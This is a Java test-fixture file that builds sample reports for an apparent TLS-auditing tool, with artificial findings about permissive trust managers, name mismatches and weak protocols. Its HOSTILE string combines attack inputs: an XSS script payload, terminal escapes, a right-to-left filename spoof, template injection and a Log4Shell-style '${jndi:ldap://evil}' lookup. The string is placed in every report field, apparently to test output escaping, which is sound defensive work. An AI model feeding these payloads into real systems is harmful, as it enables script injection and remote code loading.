package org.tlsguard.report;

import java.time.Instant;
import java.util.Arrays;
import java.util.Collections;

/** Reports to write in tests. */
final class Samples {

    /** What an attacker would like to see unescaped in some form. */
    static final String HOSTILE =
            "</style></pre><script>alert(1)</script>\" onload='x'&amp;\r\n\u001b[2J\u202egnp.exe\u200b"
                    + "\u0000\ud800x\udc00\u2028{{7*7}}${jndi:ldap://evil}\ud83d\ude08\uffff";

    private Samples() {}

    /** A report with one finding of every kind that looks different. */
    static Report typical() {
        Origin crm = Origin.builder()
                .className("com.acme.Crm$1")
                .method("checkServerTrusted")
                .file("Crm.java")
                .line(42)
                .location("lib/crm.jar")
                .artifact("com.acme:crm:1.3")
                .caller("com.acme.Main.main(Main.java:17)")
                .build();
        Finding selfSigned = Finding.builder()
                .rule("trust")
                .cause("self-signed")
                .state("active")
                .outcome("reported")
                .candidateOutcome("vetoed")
                .severity("critical")
                .cwe(Collections.singletonList("CWE-295"))
                .message("The trust manager com.acme.Crm$1 accepts whatever certificate it is shown.")
                .remedy("Remove the trust manager and put the server's CA into a trust store.")
                .allow("exemptions:\n  - rule: trust\n    allow: [self-signed]\n    match: \"10.0.0.5:8443\"\n")
                .origin(crm)
                .peer(PeerFacts.of("server", "10.0.0.5", 8443))
                .certificate(CertificateFacts.of(
                        "CN=crm.acme.example,O=Acme",
                        "CN=crm.acme.example,O=Acme",
                        Arrays.asList("crm.acme.example", "10.0.0.5"),
                        "2027-01-31T12:00:00Z",
                        "b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c",
                        "YLh1dUR9y6Kja30RrAn7JKnbQG/uEtLMkBgFF2Fuihg="))
                .protocol("TLSv1.2")
                .cipherSuite("TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384")
                .count(3)
                .first(at("2026-11-23T14:00:05.250Z"))
                .last(at("2026-11-23T15:10:00Z"))
                .stack(Arrays.asList(
                        "com.acme.Crm$1.checkServerTrusted(Crm.java:42)",
                        "com.acme.Crm.connect(Crm.java:30)",
                        "com.acme.Main.main(Main.java:17)"))
                .build();
        Finding latent = Finding.builder()
                .rule("trust")
                .cause("accepts-any")
                .state("latent")
                .outcome("rewritten")
                .severity("high")
                .cwe(Collections.singletonList("CWE-295"))
                .origin(crm)
                .peer(PeerFacts.of("server", "api.partner.example", 443))
                .first(at("2026-11-23T14:01:00Z"))
                .last(at("2026-11-23T14:01:00Z"))
                .build();
        Finding name = Finding.builder()
                .rule("name")
                .cause("mismatch")
                .state("active")
                .outcome("vetoed")
                .severity("critical")
                .cwe(Collections.singletonList("CWE-297"))
                .message("The verifier lambda in com.acme.legacy.Http accepts any name.")
                .origin(Origin.builder()
                        .className("com.acme.legacy.Http$$Lambda$14/0x00000008000c8440")
                        .method("verify")
                        .location("shop.jar!/BOOT-INF/lib/legacy-2.0.jar")
                        .build())
                .peer(PeerFacts.of("server", "fd00::17", 8443))
                .count(1)
                .build();
        Finding old = Finding.builder()
                .rule("protocol")
                .cause("weak-negotiated")
                .state("active")
                .outcome("exempted")
                .severity("medium")
                .cwe(Arrays.asList("CWE-326", "CWE-327"))
                .origin(crm)
                .peer(PeerFacts.of("server", "mainframe.corp", 992))
                .protocol("TLSv1")
                .count(2)
                .build();
        Finding candidate = Finding.builder()
                .rule("cipher")
                .cause("weak-enabled")
                .state("latent")
                .outcome("vetoed")
                .severity("low")
                .disposition("candidate")
                .cipherSuite("TLS_RSA_WITH_AES_128_CBC_SHA")
                .build();
        return Report.builder()
                .toolVersion("0.1.0")
                .mode("audit")
                .policySource("built-in")
                .policySha256("7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730")
                .candidateSource("tomorrow.yaml")
                .candidateSha256("b5bb9d8014a0f9b1d61e21e796d78dccdf1352f23cd32812f4850b878ae4944c")
                .notices(Collections.singletonList(
                        "the exemption at policy.yaml:12 (vendor firmware, ops) expires on 2026-12-01"))
                .jvmVersion("1.8.0_504")
                .jvmVendor("Eclipse Adoptium")
                .pid(4711)
                .mainClass("com.acme.Main")
                .start(at("2026-11-23T14:00:00Z"))
                .hooks(Arrays.asList(
                        HookStatus.of("jsse.trust", true, "woven", null),
                        HookStatus.of("jsse.session", true, null, null),
                        HookStatus.of("netty.openssl", false, "pending", "its class is not loaded yet"),
                        HookStatus.of("jsse.parameters", false, "failed", "no method namesOf in this JVM")))
                .switches(Arrays.asList(
                        Switch.of("jdk.tls.client.protocols", "system", "TLSv1,TLSv1.2", "command line", true),
                        Switch.of("javax.net.ssl.trustStorePassword", "system", null, "JAVA_TOOL_OPTIONS", false),
                        Switch.of("ssl.TrustManagerFactory.algorithm", "security", "SunX509", null, false)))
                .handshakes(12)
                .internalErrors(1)
                .droppedFindings(2)
                .findings(Arrays.asList(old, candidate, latent, name, selfSigned))
                .destinations(Arrays.asList(
                        Destination.of(
                                "server",
                                "api.partner.example",
                                443,
                                "TLSv1.3",
                                "TLS_AES_256_GCM_SHA384",
                                "CN=Root X1",
                                9),
                        Destination.of(
                                "server",
                                "10.0.0.5",
                                8443,
                                "TLSv1.2",
                                "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
                                null,
                                3),
                        Destination.of("client", null, -1, null, null, null, 0)))
                .trustStores(Arrays.asList(
                        TrustStore.of(
                                TrustStore.APPLICATION,
                                Collections.singletonList("CN=Root X1"),
                                Arrays.asList("CN=Root X2", "CN=Old Root,O=Acme")),
                        TrustStore.of("jvm", Collections.<String>emptyList(), Collections.singletonList("CN=Root X2"))))
                .build();
    }

    /** The report of a JVM without sin. */
    static Report clean() {
        return Report.builder()
                .toolVersion("0.1.0")
                .mode("enforce")
                .policySource("policy.yaml")
                .handshakes(4)
                .hooks(Collections.singletonList(HookStatus.of("jsse.trust", true, "woven", null)))
                .build();
    }

    /** A report with every field that there is. */
    static Report complete() {
        Finding.Builder finding = Finding.builder()
                .rule("trust")
                .cause("accepts-any")
                .state("latent")
                .outcome("reported")
                .severity("high")
                .disposition("candidate")
                .candidateOutcome("vetoed")
                .certainty("certain")
                .execution("never")
                .cwe(Collections.singletonList("CWE-295"))
                .message("m")
                .remedy("r")
                .allow("a")
                .origin(Origin.builder()
                        .className("c")
                        .method("m")
                        .file("f")
                        .line(1)
                        .location("l")
                        .artifact("a")
                        .caller("c")
                        .build())
                .peer(PeerFacts.of("server", "h", 1))
                .certificate(CertificateFacts.of("s", "i", Collections.singletonList("n"), "d", "f", "k"))
                .protocol("TLSv1.2")
                .cipherSuite("s")
                .first(1)
                .last(1)
                .stack(Collections.singletonList("s"));
        return Report.builder()
                .toolVersion("v")
                .mode("audit")
                .policySource("p")
                .policySha256("s")
                .candidateSource("c")
                .candidateSha256("s")
                .notices(Collections.singletonList("n"))
                .jvmVersion("v")
                .jvmVendor("v")
                .pid(1)
                .mainClass("m")
                .start(1)
                .reports(2)
                .scan(ScanFacts.of(1, 1, 1, Collections.singletonList("p")))
                .hooks(Collections.singletonList(HookStatus.of("h", false, "failed", "d")))
                .switches(Collections.singletonList(Switch.of("n", "system", "v", "s", true)))
                .droppedFindings(1)
                .findings(Collections.singletonList(finding.build()))
                .destinations(Collections.singletonList(Destination.of("server", "h", 1, "TLSv1.2", "s", "a", 1)))
                .trustStores(Collections.singletonList(
                        TrustStore.of("jvm", Collections.singletonList("a"), Collections.singletonList("b"))))
                .build();
    }

    /** A report in which every text is {@link #HOSTILE}. */
    static Report hostile() {
        return everywhere(HOSTILE);
    }

    /** A report in which every text is the given one. */
    static Report everywhere(String text) {
        Finding finding = Finding.builder()
                .rule(text)
                .cause(text)
                .state(text)
                .outcome(text)
                .severity(text)
                .disposition(text)
                .cwe(Collections.singletonList(text))
                .message(text)
                .remedy(text)
                .allow(text)
                .origin(Origin.builder()
                        .className(text)
                        .method(text)
                        .file(text)
                        .line(1)
                        .location(text)
                        .artifact(text)
                        .caller(text)
                        .build())
                .peer(PeerFacts.of(text, text, 443))
                .certificate(CertificateFacts.of(text, text, Collections.singletonList(text), text, text, text))
                .protocol(text)
                .cipherSuite(text)
                .stack(Collections.singletonList(text))
                .build();
        Finding known = Finding.builder()
                .rule("trust")
                .cause("self-signed")
                .state("active")
                .outcome("reported")
                .peer(PeerFacts.of("server", text, 443))
                .build();
        return Report.builder()
                .toolVersion(text)
                .mode(text)
                .policySource(text)
                .policySha256(text)
                .jvmVersion(text)
                .jvmVendor(text)
                .pid(1)
                .mainClass(text)
                .start(1)
                .hooks(Arrays.asList(HookStatus.of(text, true, text, text), HookStatus.of(text, false, "failed", text)))
                .switches(Collections.singletonList(Switch.of(text, text, text, text, true)))
                .trustStores(Collections.singletonList(
                        TrustStore.of(text, Collections.singletonList(text), Collections.singletonList("x" + text))))
                .notices(Collections.singletonList(text))
                .candidateSource(text)
                .findings(Arrays.asList(finding, known))
                .destinations(Collections.singletonList(Destination.of(text, text, 443, text, text, text, 1)))
                .build();
    }

    private static long at(String instant) {
        return Instant.parse(instant).toEpochMilli();
    }
}
